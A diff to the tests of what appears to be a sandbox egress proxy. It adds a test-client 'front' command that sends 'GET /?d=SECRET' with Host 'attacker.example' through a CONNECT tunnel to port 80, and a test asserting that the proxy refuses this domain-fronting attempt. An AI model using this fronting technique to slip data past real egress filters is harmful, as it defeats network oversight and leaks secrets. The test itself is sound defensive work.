@@ -45,7 +45,17 @@ struct Upstream {
 
 impl Upstream {
     fn start(mode: Serve) -> Upstream {
-        let l = TcpListener::bind("127.0.0.1:0").unwrap();
+        Upstream::serve(TcpListener::bind("127.0.0.1:0").unwrap(), mode)
+    }
+
+    /// On a fixed port (a web port needs root); None when it cannot be bound.
+    fn start_on(port: u16, mode: Serve) -> Option<Upstream> {
+        TcpListener::bind(("127.0.0.1", port))
+            .ok()
+            .map(|l| Upstream::serve(l, mode))
+    }
+
+    fn serve(l: TcpListener, mode: Serve) -> Upstream {
         let port = l.local_addr().unwrap().port();
         let got: Arc<Mutex<Vec<Vec<u8>>>> = Arc::default();
         let g = got.clone();
@@ -190,6 +200,15 @@ elif cmd == "halfclose":
             break
         data += d
     print(data.decode())
+elif cmd == "front":
+    # CONNECT to argv[2], then a plain HTTP request naming argv[3] in its Host header
+    s, status = connect(sys.argv[2])
+    print(status)
+    s.sendall(("GET /?d=SECRET HTTP/1.1\r\nHost: %s\r\n\r\n" % sys.argv[3]).encode())
+    try:
+        print("answer:", s.recv(4096) or b"closed")
+    except ConnectionResetError:
+        print("answer:", b"closed")
 elif cmd == "upload":
     s, status = connect(sys.argv[2])
     print(status)
@@ -472,6 +491,34 @@ fn a_tls_client_hello_naming_another_server_is_refused() {
     assert_eq!(d[0]["detail"], "ClientHello names \"evil.example\"");
     assert_eq!(d[0]["bytes_up"], 0);
     assert_eq!(d[1]["reason"], "allowed");
+}
+
+#[test]
+fn a_plain_request_in_a_tunnel_to_port_80_cannot_front_another_host() {
+    // A CDN routes by Host: a plain HTTP request inside a CONNECT tunnel to an allowed host's port
+    // 80 could name a site that is not allowed. Tunnels to 80 (and 443) must carry TLS.
+    if !ready() {
+        return skip(NO_SANDBOX);
+    }
+    let Some(up) = Upstream::start_on(80, Serve::Sink) else {
+        return skip("cannot bind 127.0.0.1:80 for the test server (needs root, and a free port 80)");
+    };
+    let fx = reaching(&up, "");
+    let o = run(&fx, "python3 client.py front localhost:80 attacker.example");
+    assert_code(&o, 0);
+    assert_eq!(
+        stdout(&o),
+        "HTTP/1.1 200 Connection established\nanswer: b'closed'\n",
+        "{}",
+        stderr(&o)
+    );
+    let got = up.wait_for(1);
+    assert!(
+        got.iter().all(|b| !String::from_utf8_lossy(b).contains("SECRET")),
+        "the fronted request reached the server: {got:?}"
+    );
+    let d = decisions(&fx);
+    assert_eq!(d[0]["reason"], "not_tls", "{d:?}");
 }
 
 #[test]
